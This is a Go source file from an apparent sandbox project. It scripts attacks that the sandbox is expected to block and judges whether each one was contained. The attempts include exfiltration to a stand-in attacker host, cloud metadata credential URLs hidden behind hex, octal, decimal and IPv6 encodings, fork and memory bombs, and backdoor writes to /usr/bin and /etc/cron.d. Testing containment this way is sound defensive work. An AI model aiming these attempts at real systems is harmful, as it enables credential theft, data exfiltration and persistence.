package demo

import (
	"fmt"
	"slices"
	"strings"

	"github.com/airlock-sandbox/airlock/audit"
	"github.com/airlock-sandbox/airlock/enforcer"
	"github.com/airlock-sandbox/airlock/sandbox"
)

// attempt is one thing the attacker tries, and how to judge its outcome.
type attempt struct {
	name    string
	tool    string
	task    string
	command string
	args    []string
	slow    bool // trips a cap after seconds: run it alongside the others
	judge   func(outcome) Attempt
}

// judge rules on an attempt's outcome; a holds the attempt's name and the
// command gate's decision.
type judge func(a Attempt, o outcome) Attempt

// judged is j ruling on the attempt called name.
func judged(name string, j judge) func(outcome) Attempt {
	return func(o outcome) Attempt {
		return j(Attempt{Attempt: name, Gate: string(o.res.Gate), Decision: o.res.Decision.String(), Reason: o.res.Reason}, o)
	}
}

// payloadAttempt runs airlock's own binary as the attacker's code.
func payloadAttempt(name string, j judge, args ...string) attempt {
	return attempt{name: name, tool: PayloadTool, task: EgressTask, command: sandbox.SelfPath,
		args: append([]string{"payload"}, args...), judge: judged(name, j)}
}

// attempts is the demo's script: lab phase 5's three attempts, made real,
// and the bombs and file-system escapes of phase 2 and the runbook.
func attempts(secret, canary, udpCanary string) []attempt {
	metadata := func(name, url string) attempt {
		return payloadAttempt(name, egressJudge("always blocked"), "http-get", url)
	}
	spin := payloadAttempt("infinite loop (ASI09)", capJudge("cpu", "cpu", "wall"), "spin")
	spin.slow = true
	return []attempt{
		gitClone(),
		spin,
		payloadAttempt("direct TCP socket to the host's loopback "+canary, refusedJudge("landlock + netns"), "connect", canary),
		payloadAttempt("direct UDP datagram to the host's loopback "+udpCanary, refusedJudge("network namespace"), "udp-send", udpCanary),
		payloadAttempt("look for a way out: interfaces and routes", routesJudge, "routes"),
		payloadAttempt("proxy to evil.attacker.example", egressJudge("denied by default"), "http-get", "http://evil.attacker.example/exfil"),
		metadata("proxy to 169.254.169.254", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
		metadata("proxy to 2852039166 (169.254.169.254 as one number)", "http://2852039166/latest/meta-data/"),
		metadata("proxy to 0xA9FEA9FE (hex)", "http://0xA9FEA9FE/latest/meta-data/"),
		metadata("proxy to 0251.0376.0251.0376 (octal)", "http://0251.0376.0251.0376/latest/meta-data/"),
		metadata("proxy to [::ffff:169.254.169.254] (IPv4-mapped IPv6)", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
		metadata("proxy to metadata.google.internal", "http://metadata.google.internal/computeMetadata/v1/"),
		payloadAttempt("SOCKS5 to 169.254.169.254:80", egressJudge("always blocked"), "socks-connect", "169.254.169.254:80"),
		payloadAttempt("proxy to search.example-corp.net (allowlisted for web_search)", allowedJudge, "http-get", "http://search.example-corp.net/"),
		payloadAttempt("memory bomb", capJudge("memory", "memory"), "membomb"),
		payloadAttempt("fork bomb", capJudge("tasks", "pids"), "forkbomb"),
		payloadAttempt("read a host secret "+secret, refusedJudge("filesystem view"), "read-file", secret),
		payloadAttempt("write outside the workspace: /usr/bin/backdoor", refusedJudge("filesystem view"), "write-file", "/usr/bin/backdoor"),
		payloadAttempt("write outside the workspace: /etc/cron.d/backdoor", refusedJudge("filesystem view"), "write-file", "/etc/cron.d/backdoor"),
	}
}

// gitClone is lab phase 5's first attempt: a command the gate refuses.
func gitClone() attempt {
	const name = "git clone https://attacker.example/repo through run_tests"
	return attempt{name: name, tool: "run_tests", command: "git", args: []string{"clone", "https://attacker.example/repo"},
		judge: judged(name, commandJudge)}
}

// macAttempts is the demo's script on macOS, played by the Mac's payloads
// (payload/mac.go, the macOS battery's): the same attempts wherever a Mac
// has the mechanism, judged the same way, with Seatbelt where Linux has
// namespaces and Landlock. Left out, as the Mac has no such control for
// them to meet: UDP and routes (Seatbelt allows the proxy's port alone,
// and the TCP attempts show it), SOCKS5 (the proxy is the same), and the
// fork bomb (RLIMIT_NPROC counts the user's processes, not the
// sandbox's: the macOS battery judges it, docs/sandbox.md, "macOS").
func macAttempts(secret, canary, home string) []attempt {
	get := func(name, url, want string) attempt {
		return payloadAttempt(name, egressJudge(want), "mac-get", url)
	}
	forever := payloadAttempt("a command that never ends (ASI09)", capJudge("wall", "wall"), "mac-hold")
	forever.slow = true
	return []attempt{
		gitClone(),
		forever,
		payloadAttempt("direct TCP socket to the host's loopback "+canary, refusedJudge("seatbelt (network: the proxy's port only)"), "mac-connect", canary),
		payloadAttempt("around the proxy (NO_PROXY=*) to the host's loopback "+canary, refusedJudge("seatbelt (network: the proxy's port only)"), "mac-get-noproxy", "http://"+canary+"/"),
		get("proxy to evil.attacker.example", "http://evil.attacker.example/exfil", "denied by default"),
		get("proxy to 169.254.169.254", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "always blocked"),
		get("proxy to 0xA9FEA9FE (hex)", "http://0xA9FEA9FE/latest/meta-data/", "always blocked"),
		get("proxy to [::ffff:169.254.169.254] (IPv4-mapped IPv6)", "http://[::ffff:169.254.169.254]/latest/meta-data/", "always blocked"),
		get("proxy to metadata.google.internal", "http://metadata.google.internal/computeMetadata/v1/", "always blocked"),
		payloadAttempt("proxy to search.example-corp.net (allowlisted for web_search)", allowedJudge, "mac-get", "http://search.example-corp.net/"),
		payloadAttempt("memory bomb", capJudge("memory", "memory"), "mac-membomb"),
		payloadAttempt("read a host secret "+secret, refusedJudge("seatbelt (file reads)"), "mac-read", secret),
		payloadAttempt("write outside the copies: the user's home "+home, refusedJudge("seatbelt (file writes)"), "mac-write", home),
		payloadAttempt("write outside the copies: the host's /private/tmp", refusedJudge("seatbelt (file writes)"), "mac-write", "/private/tmp"),
	}
}

// broken marks an attempt whose outcome could not be judged.
func broken(a Attempt, o outcome, why string) Attempt {
	a.Contained = false
	a.Evidence = "BROKEN: " + why
	if o.err != nil {
		a.Evidence += ": " + o.err.Error()
	}
	return a
}

// commandJudge: refused at the command gate, and nothing was spawned.
func commandJudge(a Attempt, o outcome) Attempt {
	launched := slices.ContainsFunc(o.events, func(ev audit.Event) bool {
		return ev.Context.Event == audit.EventSandboxLaunched
	})
	refused := o.res.ExitCode == enforcer.ExitDenied || o.res.ExitCode == enforcer.ExitEscalated
	a.Contained = refused && !launched
	a.Evidence = fmt.Sprintf("exit %d; no sandbox was launched", o.res.ExitCode)
	if launched {
		a.Evidence = "a sandbox was launched"
	}
	return a
}

// capJudge: the run was killed by one of the named caps. Where the host
// gives no cgroup for the control (a rootless run without delegation),
// the receipt names the rlimit that holds instead: the bomb must then
// have failed (a non-zero exit, or a kill by any cap), and the row says
// which mechanism held.
func capJudge(control string, caps ...string) judge {
	return func(a Attempt, o outcome) Attempt {
		mech := o.res.Receipt[control]
		if o.res.KilledBy != nil && slices.Contains(caps, *o.res.KilledBy) {
			a.Gate, a.Decision, a.Reason = "resource", "kill", o.res.KillReason
			a.Contained = true
			a.Evidence = fmt.Sprintf("killedBy %s after %d ms wall, %d ms CPU; exit %d; enforced by %s",
				*o.res.KilledBy, o.res.WallMs, o.res.CPUMs, o.res.ExitCode, mech)
			return a
		}
		if !strings.HasPrefix(mech, "RLIMIT") || o.res.ExitCode == 0 || o.res.Path == "" {
			return broken(a, o, fmt.Sprintf("not killed by the %s cap (exit %d, %s: %q)", strings.Join(caps, "/"), o.res.ExitCode, control, mech))
		}
		a.Gate, a.Decision, a.Contained = "resource (rlimit)", "refused", true
		a.Reason = "no cgroup on this host for this user: " + mech + " refused the bomb"
		a.Evidence = fmt.Sprintf("exit %d after %d ms wall", o.res.ExitCode, o.res.WallMs)
		if o.res.KilledBy != nil {
			a.Evidence += "; then killed by the " + *o.res.KilledBy + " cap"
		}
		return a
	}
}

// refusedJudge: the payload ran, tried, and the kernel refused.
func refusedJudge(control string) judge {
	return func(a Attempt, o outcome) Attempt {
		if len(o.reports) == 0 {
			return broken(a, o, "the payload reported nothing")
		}
		rep := o.reports[len(o.reports)-1]
		a.Gate, a.Decision = control, "refused"
		a.Reason = rep.Evidence
		a.Contained = !rep.Succeeded
		a.Evidence = "errno " + rep.Errno
		if rep.Errno == "" {
			a.Evidence = rep.Evidence
		}
		return a
	}
}

// routesJudge: only lo and no route, in the sandbox's own network
// namespace. Where the host refuses one (a container: docs/sandbox.md,
// "Inside a container") the host's interfaces are seen, and the kernel
// keeps the sandbox off them (Landlock, seccomp: the direct TCP and UDP
// attempts): contained, unless the receipt says egress is not held.
func routesJudge(a Attempt, o outcome) Attempt {
	a = refusedJudge("network namespace")(a, o)
	shared := strings.Contains(o.res.Receipt["namespaces"], "no network namespace")
	if !shared || strings.HasPrefix(a.Evidence, "BROKEN") {
		return a
	}
	if held := !strings.Contains(o.res.Receipt["network"], "NOT kernel-enforced"); held {
		a.Gate, a.Contained = "landlock + seccomp (no network namespace)", true
		a.Reason = "the host refuses a network namespace: its interfaces are seen, and Landlock (TCP to the proxy's port only) and seccomp (no UDP) keep the sandbox off them"
	}
	return a
}

// lastEgress is the egress gate's last decision (allow or deny) in a
// run's events.
func lastEgress(o outcome) (audit.Event, bool) {
	for _, ev := range slices.Backward(o.events) {
		if ev.Kind == audit.KindEgress && ev.Decision != audit.DecisionInfo {
			return ev, true
		}
	}
	return audit.Event{}, false
}

// egressJudge: the proxy was asked and the egress gate denied, with a
// reason containing want; the payload got nothing.
func egressJudge(want string) judge {
	return func(a Attempt, o outcome) Attempt {
		d, ok := lastEgress(o)
		if !ok {
			return broken(a, o, "the proxy recorded no egress decision")
		}
		a.Gate, a.Decision, a.Reason = "egress", d.Decision, d.Reason
		got := len(o.reports) > 0 && o.reports[len(o.reports)-1].Succeeded
		a.Contained = d.Decision == audit.DecisionDeny && strings.Contains(d.Reason, want) && !got
		a.Evidence = fmt.Sprintf("audit seq %d", d.Seq)
		if len(o.reports) > 0 {
			a.Evidence += "; payload saw: " + o.reports[len(o.reports)-1].Evidence
		}
		return a
	}
}

// allowedJudge: the gate allowed an allowlisted host; whether the
// connection then succeeded depends on the network, and is said.
func allowedJudge(a Attempt, o outcome) Attempt {
	d, ok := lastEgress(o)
	if !ok {
		return broken(a, o, "the proxy recorded no egress decision")
	}
	a.Gate, a.Decision, a.Reason = "egress", d.Decision, d.Reason
	a.Contained = d.Decision == audit.DecisionAllow
	a.Evidence = "allowed by policy"
	for _, ev := range o.events {
		if ev.Kind == audit.KindEgress && ev.Decision == audit.DecisionInfo {
			a.Evidence = ev.Reason
		}
	}
	return a
}
